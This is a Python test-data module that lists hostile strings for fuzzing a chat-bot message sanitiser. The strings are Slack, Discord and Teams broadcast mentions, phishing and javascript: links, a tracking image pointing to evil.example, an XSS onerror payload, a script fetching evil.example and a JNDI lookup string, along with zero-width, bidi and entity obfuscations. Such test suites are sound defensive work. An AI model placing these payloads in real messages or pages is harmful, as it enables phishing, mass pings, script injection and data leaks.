"""Texts that try to mention somebody, to be a link, to hide something, or to break out of their place."""

# What would be alive if a platform read it as its own.
ATTACKS = {
    "everybody in the channel": "<!channel>",
    "everybody here, with a label": "<!here|x>",
    "everyone": "<!everyone>",
    "a person": "<@U123>",
    "a person with a name": "<@U123|boss>",
    "a channel": "<#C1>",
    "a group": "<!subteam^S1>",
    "a group with a name": "<!subteam^S1|@all>",
    "a date that links": "<!date^1392734382^{date}^https://evil.example|today>",
    "a labelled link": "<https://evil.example|bank>",
    "a mail link": "<mailto:a@evil.example|write>",
    "a script link": "<javascript:alert(1)|go>",
    "a Discord role": "<@&123456789012345678>",
    "an at-mention": "@channel @here @everyone",
    "a Teams mention": "<at>Everyone</at>",
    "a Markdown link": "[bank](https://evil.example/login)",
    "a Markdown link with a title": '[bank](https://evil.example "The bank")',
    "an image": "![pixel](https://evil.example/p.png?leak=1)",
    "an image in a link": "[![x](https://evil.example/p.png)](https://evil.example)",
    "an autolink": "<https://evil.example>",
    "a mail autolink": "<a@evil.example>",
    "a reference link": "[bank][b]\n\n[b]: https://evil.example",
    "a citation that is a link": "[1](https://evil.example)",
    "a script": "[go](javascript:alert(1))",
    "data": "[go](data:text/html,<script>alert(1)</script>)",
    "a bare address": "https://evil.example/a?b=c&d=e#f",
    "an address in capitals": "HTTPS://EVIL.EXAMPLE",
    "an address with credentials": "https://bank.example@evil.example/",
    "another program's address": "slack://user?team=T1&id=U1",
    "www": "www.evil.example",
    "a domain": "evil.com",
    "a domain with a path": "login.evil.co.uk/reset",
    "a file that is a domain": "README.md",
    "a foreign domain": "bücher.example",
    "an encoded domain": "xn--bcher-kva.example",
    "wide dots": "evil。com",
    "an internet address": "10.0.0.1:8080/admin",
    "a mail address": "ceo+x@evil.example",
    "mailto": "mailto:ceo@evil.example?subject=x",
    "tel": "tel:+4912345",
    "HTML": '<a href="https://evil.example">bank</a>',
    "a script element": "<script>fetch('https://evil.example')</script>",
    "an event": '<img src=x onerror="alert(1)">',
}

# Where it may stand; `{}` is the attack.
PLACES = {
    "alone": "{}",
    "in a sentence": "Please read {} now.",
    "in bold": "**{}** and _{}_ and ~~{}~~",
    "in a list": "- one\n- {}\n  1. {}\n",
    "in a quotation": "> {}\nlazy {}\n\n{}",
    "in a table": "| a | b |\n|---|---|\n| {} | x |\n",
    "after broken code": "``` \n{}\n```\n{}\n`{}",
    "in a heading": "# {}\n\n{}\n===\n",
}


def _split(attack: str) -> str:
    """With something invisible after every third letter."""
    hidden = "\u200b\u2060\ufeff\u00ad\u202e\U000e0041"
    return "".join(
        letter + (hidden[at // 3 % len(hidden)] if at % 3 == 2 else "") for at, letter in enumerate(attack)
    )


def _entities(attack: str) -> str:
    named = attack.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return named.replace(":", "&colon;").replace(".", "&#46;").replace("@", "&#x40;")


OTHERS = {
    "bidi override": "safe \u202egpj.exe\u202c file",
    "bidi isolates": "\u2066\u2067admin\u2069\u2069",
    "bidi by entity": "&#x202e;moc.live&#8238;",
    "zero width by entity": "<!cha&#8203;nnel> evil&ZeroWidthSpace;.com",
    "tag characters": "hi" + "".join(chr(0xE0000 + ord(letter)) for letter in "<!channel>"),
    "NUL and control": "a\x00b\x07c\x1b[31md\x7fe\x9bf",
    "lone carriage returns": "a\r<!channel>\rb",
    "line separators": "a\u2028<!channel>\u2029b",
    "unpaired surrogates": "a\ud83d b\udc00 <!channel>",
    "right to left": "שלום <!channel> مرحبا evil.com",
    "emoji shortcodes": ":tada: :warning: :<!channel>: :smile::skin-tone-2:",
    "emoji": "👩‍👩‍👧‍👦 ❤️ 🇩🇪",
    "a very long word": "w" * 20_000,
    "a very long address": "https://evil.example/" + "a" * 20_000,
    "very many addresses": "a.bc " * 4_000,
    "very many marks": "**a** _b_ `c` " * 3_000,
    "very many items": "- a\n" * 5_000,
    "very many rows": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 3_000,
    "a very wide table": "|" + " a |" * 3_000 + "\n|" + "---|" * 3_000 + "\n|" + " b |" * 3_000 + "\n",
    "100 kB": "All work and no play makes <!channel> a dull bot. See evil.com! " * 1_600,
    "100 kB of ampersands": "&" * 100_000,
    "100 kB of backslashes and quotes": '\\"' * 50_000,
    "open brackets": "[" * 3_000,
    "open angles": "<" * 3_000,
    "stars": "*" * 3_000 + "a" + "*" * 3_000,
    "backticks": "`" * 100 + "<!channel>" + "`" * 99,
    "nested fences": "````\n```\n<!channel>\n```\n````\n<!channel>\n~~~\n```\n~~~",
    "an unclosed fence": "```\n<!channel>",
    "words next to the fence": "```<!channel> evil.com\nx\n```",
    "a fence in a quotation": "> ```\n> <!channel>\noutside <!here>",
    "deep quotations": ">" * 200 + " <!channel> evil.com",
    "deep lists": "".join(" " * (2 * depth) + "- <!channel>\n" for depth in range(60)),
    "empty list items": "-\n-\n  -\n1.\n",
    "an empty table": "| |\n|-|\n| |",
    "a list that starts high": "2024. <!channel>\n2025. evil.com",
    "nothing": "",
    "blanks": " \n\t\n ",
    "nothing that shows": "\u200b\u2060\u200d\u3164",
    "rules": "***\n---\n___",
    "an empty link": "[](https://evil.example)![](https://evil.example/p.png)",
    "an escaped link": "\\<!channel\\> \\[x\\](https://evil.example)",
    "an address over marks": "evil.**com** https:**//evil.example** a@*evil*.com",
    "an address over code": "evil.`com` `https://`evil.example",
    "block quote of Slack": "&gt; <!channel>\n>>> <!here>",
    "Slack's own escapes": "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "JSON": '"}]},{"type":"broadcast","range":"channel"},{"type":"link","url":"https://evil.example"}',
    "a template": "{{ config }} ${jndi:ldap://evil.example/a} {0} %s",
}

HOSTILE: dict[str, str] = {
    **{
        f"{attack} {place}": pattern.replace("{}", words)
        for attack, words in ATTACKS.items()
        for place, pattern in PLACES.items()
    },
    **{f"{attack}, split by what is hidden": _split(words) for attack, words in ATTACKS.items()},
    **{f"{attack}, as entities": _entities(words) for attack, words in ATTACKS.items()},
    **OTHERS,
}
